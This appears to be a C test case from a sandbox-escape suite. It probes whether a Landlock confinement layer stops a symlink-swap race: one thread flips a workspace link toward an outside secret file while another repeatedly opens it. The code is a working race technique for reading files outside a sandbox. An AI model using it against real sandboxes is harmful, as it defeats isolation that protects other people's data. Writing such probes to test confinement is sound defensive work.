// escape: swap a symlink in the workspace between an allowed and a forbidden target while opening it
// layer: landlock
// outside: works
#include "payload.h"

static char *link_path, *next_path;
static volatile int stop;

static void *swap(void *none) {
    for (int i = 0; !stop; i++) {
        unlink(next_path);
        if (symlink(i & 1 ? join("ws", "mine") : join("out", "secret.txt"), next_path) < 0) continue;
        rename(next_path, link_path);
    }
    return NULL;
}

static void attempt(void) {
    pthread_t thread;
    in("out", "secret.txt");
    own_file("mine", 0644);
    link_path = join("ws", "link");
    next_path = join("ws", "next");
    if (pthread_create(&thread, NULL, swap, NULL)) skip("no thread");
    for (double end = seconds() + 0.5; seconds() < end;) {
        char text[32] = "";
        int fd = open(link_path, O_RDONLY);
        if (fd < 0) continue;
        if (read(fd, text, sizeof text - 1) > 0) worked("read the secret: %.13s", text);
        close(fd);
    }
    stop = 1;
    no_effect("racing open");
}
